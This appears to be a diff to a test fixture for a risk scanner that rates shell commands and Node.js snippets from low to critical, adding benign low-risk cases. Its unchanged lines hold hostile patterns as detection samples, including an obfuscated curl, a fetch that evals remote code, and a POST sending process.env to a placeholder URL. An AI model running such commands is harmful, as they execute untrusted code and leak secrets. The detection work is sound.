@@ -53,7 +53,8 @@ LINES = [
     # capabilities
     (f"curl -O {URL}", "medium"),
     ("./bin/helper", "medium"),
-    ("powershell -File x.ps1", "medium"),
+    ('powershell -NoProfile -Command "Write-Host thank you"', "low"),
+    ("powershell -w hidden -File x.ps1", "medium"),
     ("python3 -c 'import os; os.system(\"prog\")'", "medium"),
     # hidden
     (f'c"u"rl -O {URL}', "high"),
@@ -96,6 +97,9 @@ FILES = [
     ("require('child_process').exec('calc.exe')", "medium"),
     (f"require('https').get('{URL}')", "medium"),
     ("require('fs').writeFileSync('/etc/x', 'y')", "medium"),
+    ("require('fs').writeFileSync('/tmp/x', 'y')", "low"),
+    ("require('child_process').execSync('find dist -name x.map -delete')", "low"),
+    ("require('child_process').spawn(process.execPath, [__dirname + '/notice.js'])", "low"),
     ("require('child' + '_process').exec('pro' + 'g')", "high"),
     (f"fetch('{URL}').then(r => r.text()).then(t => eval(t))", "critical"),
     (f"fetch('{URL}', {{method: 'POST', body: JSON.stringify(process.env)}})", "critical"),
